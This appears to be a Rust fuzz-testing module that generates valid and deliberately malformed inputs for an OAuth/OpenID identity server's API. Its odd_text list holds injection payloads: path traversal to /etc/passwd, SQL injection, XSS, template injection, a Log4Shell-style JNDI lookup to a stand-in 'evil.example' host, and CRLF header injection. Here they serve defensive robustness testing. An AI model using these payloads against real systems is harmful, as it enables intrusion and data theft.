//! Values that a schema describes, and values that nobody would describe.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};

use super::chance::Chance;

/// Names that answers told, by the member in which they stood: what exists is asked for again.
#[derive(Default)]
pub struct Known(BTreeMap<String, Vec<String>>);

const MOST: usize = 40;

impl Known {
    pub fn learn(&mut self, name: &str, value: &str) {
        let values = self.0.entry(name.to_owned()).or_default();
        if !values.iter().any(|known| known == value) {
            if values.len() == MOST {
                values.remove(0);
            }
            values.push(value.to_owned());
        }
    }

    /// Learns from a whole answer; `is_wanted` says which members are names, and which of them may be used.
    pub fn learn_all(&mut self, answer: &Value, is_wanted: &impl Fn(&str, &str) -> bool) {
        match answer {
            Value::Object(members) => {
                for (name, value) in members {
                    match value.as_str().filter(|text| is_wanted(name, text)) {
                        Some(text) => self.learn(name, text),
                        None => self.learn_all(value, is_wanted),
                    }
                }
            }
            Value::Array(items) => items.iter().for_each(|item| self.learn_all(item, is_wanted)),
            _ => {}
        }
    }

    pub fn any(&self, chance: &mut Chance, name: &str) -> Option<String> {
        self.0.get(name).map(|values| chance.pick(values).clone())
    }

    /// A name of whatever it may be.
    pub fn anything(&self, chance: &mut Chance) -> Option<String> {
        let all: Vec<_> = self.0.values().flatten().collect();
        (!all.is_empty()).then(|| (*chance.pick(&all)).clone())
    }
}

/// A value that a schema of the description allows, as far as it says; where it says `string` its name says which.
pub fn valid(description: &Value, schema: &Value, name: &str, chance: &mut Chance, known: &Known) -> Value {
    let schema = resolve(description, schema);
    if let Some(choices) = schema["oneOf"].as_array().or_else(|| schema["anyOf"].as_array()) {
        let choice = chance.pick(choices).clone();
        return valid(description, &choice, name, chance, known);
    }
    if let Some(words) = schema["enum"].as_array() {
        return chance.pick(words).clone();
    }
    let kind = match &schema["type"] {
        Value::Array(kinds) => chance.pick(kinds).as_str().unwrap_or("null").to_owned(),
        Value::String(kind) => kind.clone(),
        _ if schema["properties"].is_object() || schema["allOf"].is_array() => "object".to_owned(),
        _ => "string".to_owned(),
    };
    match kind.as_str() {
        "object" => Value::Object(object(description, schema, name, chance, known)),
        "array" => {
            let items = schema["items"].clone();
            (0..=chance.below(2)).map(|_| valid(description, &items, name, chance, known)).collect()
        }
        "integer" | "number" => {
            let (least, most) = (schema["minimum"].as_u64().unwrap_or(1), schema["maximum"].as_u64().unwrap_or(3600));
            json!(least + chance.number() % (most.max(least) - least + 1))
        }
        "boolean" => json!(chance.percent(50)),
        "null" => Value::Null,
        _ => json!(text(name, chance, known)),
    }
}

fn resolve<'d>(description: &'d Value, schema: &'d Value) -> &'d Value {
    match schema["$ref"].as_str() {
        Some(reference) => resolve(description, description.pointer(&reference[1..]).unwrap()),
        None => schema,
    }
}

fn object(description: &Value, schema: &Value, name: &str, chance: &mut Chance, known: &Known) -> Map<String, Value> {
    let mut made = Map::new();
    for part in schema["allOf"].as_array().into_iter().flatten() {
        made.extend(object(description, resolve(description, part), name, chance, known));
    }
    let required: Vec<_> = schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    let members = schema["properties"].as_object();
    // Documents with many members are asked for a few of them at a time.
    let often = if members.is_some_and(|members| members.len() > 8) { 12 } else { 60 };
    for (member, schema) in members.into_iter().flatten() {
        let often = if is_of_two(member) { 1 } else { often };
        if required.contains(&member.as_str()) || is_needed(name, member) || chance.percent(often) {
            // Attributes have names of their own kind.
            let called = if (name, member.as_str()) == ("attributes", "name") { "attributes" } else { member };
            made.insert(member.clone(), valid(description, schema, called, chance, known));
        }
    }
    if members.is_none() && name == "scopes" {
        made.insert("orders:read".to_owned(), json!({"description": "Read orders"}));
    }
    made
}

/// Members without which hardly anything is accepted, though the schema can do without.
fn is_needed(of: &str, member: &str) -> bool {
    matches!((of, member), ("metadata" | "", "redirect_uris") | ("", "alg" | "reason"))
}

/// Of the back channel; they mean nothing without its grant.
const NOTIFIED: &str = "backchannel_client_notification_endpoint";
const SIGNED: &str = "backchannel_authentication_request_signing_alg";
/// Of what is allowed otherwise it forbids most.
const PROFILE: &str = "security_profile";

/// Members that are refused without another one, or without keys: left to chance like the others, they would leave nothing that is accepted.
fn is_of_two(member: &str) -> bool {
    let ends = ["_encrypted_response_alg", "_encryption_alg", "_enc", NOTIFIED, SIGNED, PROFILE];
    ends.iter().any(|end| member.ends_with(end))
}

/// A text that would do for a member of this name.
fn text(name: &str, chance: &mut Chance, known: &Known) -> String {
    let number = chance.number() % 100_000;
    let words = |chance: &mut Chance, words: &[&str]| (*chance.pick(words)).to_owned();
    match name {
        "tenant_id" => format!("tenant-{number}"),
        "user_name" | "preferred_username" => format!("user{number}"),
        "email" => format!("user{number}@example.com"),
        "phone_number" => format!("+8131234{number:05}"),
        "birthdate" => "1990-01-31".to_owned(),
        "locale" | "default_locale" => words(chance, &["en", "ja", "de-CH"]),
        "zoneinfo" => "Asia/Tokyo".to_owned(),
        "status" => words(chance, &["registered", "active"]),
        "password" => format!("an-uncommon-phrase-{number}"),
        "client_secret" => format!("a-secret-that-it-had-elsewhere-{number:05}"),
        "redirect_uris" | "post_logout_redirect_uris" => format!("https://app{number}.example.com/cb"),
        "allowed_cors_origins" => "https://app.example.com".to_owned(),
        "grant_types" => words(chance, &["authorization_code", "refresh_token", "client_credentials"]),
        "response_types" => "code".to_owned(),
        "application_type" => words(chance, &["web", "native"]),
        "subject_type" => words(chance, &["public", "pairwise"]),
        "token_endpoint_auth_method" => words(chance, &["none", "client_secret_basic", "client_secret_post"]),
        "scope" | "default_scope" => words(chance, &["openid", "openid profile", "evident:users:read"]),
        "permissions" => words(chance, &["evident:users:read", "evident:clients:read", "evident:users:write"]),
        "identifier" => format!("https://api{number}.example.com"),
        "alg" => words(chance, &["ES256", "EdDSA", "ES384"]),
        "backchannel_token_delivery_mode" => words(chance, &["poll", "ping", "push"]),
        NOTIFIED => format!("https://app{number}.example.com/told"),
        SIGNED => words(chance, &["ES256", "PS256"]),
        PROFILE => words(chance, &["fapi1_baseline", "fapi1_advanced", "fapi2_security_profile", "fapi_ciba"]),
        name if name.ends_with("_enc") => words(chance, &["A128CBC-HS256", "A256GCM"]),
        name if is_of_two(name) => words(chance, &["RSA-OAEP-256", "ECDH-ES", "dir"]),
        name if name.ends_with("_alg") => words(chance, &["ES256", "RS256", "EdDSA"]),
        "kind" => words(chance, &["string", "integer", "boolean"]),
        "attributes" => format!("attribute_{number}"),
        "editable_by" => words(chance, &["user", "administrator"]),
        "until" | "purge_after" | "expires_at" => "2099-12-31T23:59:59Z".to_owned(),
        name if name.ends_with("_uri") || matches!(name, "picture" | "website" | "profile") => {
            format!("https://app{number}.example.com/page")
        }
        name if name.ends_with("_id") && chance.percent(70) => {
            known.any(chance, name).unwrap_or_else(|| format!("{name}-{number}"))
        }
        _ => format!("{name} {number}"),
    }
}

/// A value that stands where it should not.
pub fn odd(chance: &mut Chance) -> Value {
    let all = [
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e308),
        json!(0.5),
        json!([]),
        json!({}),
        json!([[[[]]]]),
        json!({"$personal": {"subject": "aiko", "value": "x"}}),
        json!({"$erased": true}),
        json!({"$secret": true}),
        json!({"": ""}),
        json!("a".repeat(10_000)),
        json!(["a", "a", "a"]),
        json!(vec!["https://app.example.com/cb"; 300]),
    ];
    if chance.percent(50) { chance.pick(&all).clone() } else { json!(odd_text(chance)) }
}

/// A text that somebody hopes we fail at.
pub fn odd_text(chance: &mut Chance) -> String {
    let all = [
        "",
        " ",
        "\u{0}",
        "a\u{0}b",
        "\u{202e}evil",
        "\u{feff}",
        "💥",
        "e\u{301}",
        "../../../etc/passwd",
        "..",
        ".",
        "/",
        "%00",
        "%",
        "%2e%2e%2f",
        "' OR '1'='1' --",
        "\"; DROP TABLE users; --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "2024-02-30T25:61:00Z",
        "0000-00-00T00:00:00Z",
        "+292277026596-12-04T15:30:07Z",
        "2020-01-01T00:00:00",
        "18446744073709551616",
        "-1",
        "1e9",
        "NaN",
        "true",
        "null",
        "javascript:alert(1)",
        "https://[::1",
        "https://user@app.example.com/cb#x",
        "user_id eq \"\\u0000\"",
        "email sw \"",
        "\r\nX-Evil: 1",
        "*",
        "~",
        "administrator",
    ];
    if chance.percent(5) {
        return "a".repeat(1 + chance.below(5000));
    }
    (*chance.pick(&all)).to_owned()
}

/// The document with something wrong in one place of it.
pub fn spoiled(document: &Value, chance: &mut Chance) -> Value {
    let mut document = document.clone();
    let mut places = Vec::new();
    collect(&document, String::new(), &mut places);
    let place = chance.pick(&places).clone();
    let Some(value) = document.pointer_mut(&place) else { return document };
    match (chance.below(4), &mut *value) {
        (0, Value::Object(members)) => drop(members.insert(odd_text(chance), odd(chance))),
        (1, Value::Object(members)) if !members.is_empty() => {
            let name = members.keys().nth(chance.below(members.len())).cloned();
            members.remove(&name.unwrap_or_default());
        }
        (2, value) => *value = json!([value.clone()]),
        (_, value) => *value = odd(chance),
    }
    document
}

fn collect(value: &Value, at: String, places: &mut Vec<String>) {
    match value {
        Value::Object(members) => {
            for (name, value) in members {
                collect(value, format!("{at}/{}", name.replace('~', "~0").replace('/', "~1")), places);
            }
        }
        Value::Array(items) => {
            for (number, item) in items.iter().enumerate() {
                collect(item, format!("{at}/{number}"), places);
            }
        }
        _ => {}
    }
    places.push(at);
}

/// The bytes of a document with something wrong with the bytes.
pub fn garbled(document: &Value, chance: &mut Chance) -> Vec<u8> {
    let text = document.to_string();
    let inner = text.trim_start_matches('{').trim_end_matches('}').to_owned();
    match chance.below(11) {
        0 => text.as_bytes()[..chance.below(text.len())].to_vec(),
        1 => [text.as_bytes(), b"\xff\xfe"].concat(),
        2 => format!("\u{feff}{text}").into_bytes(),
        3 => format!("{text}{text}").into_bytes(),
        4 => format!("{{\"x\":{}{}}}", "[".repeat(3000), "]".repeat(3000)).into_bytes(),
        5 => format!("{{{inner},{inner}}}").into_bytes(),
        6 => format!("{{\"x\":1e400,{inner}}}").into_bytes(),
        7 => format!("{{\"name\":\"{}\"}}", "a".repeat(300_000)).into_bytes(),
        8 => Vec::new(),
        9 => b"\0\0\0\0".to_vec(),
        _ => {
            let mut bytes = text.into_bytes();
            let at = chance.below(bytes.len());
            bytes[at] = u8::try_from(chance.below(256)).unwrap_or_default();
            bytes
        }
    }
}
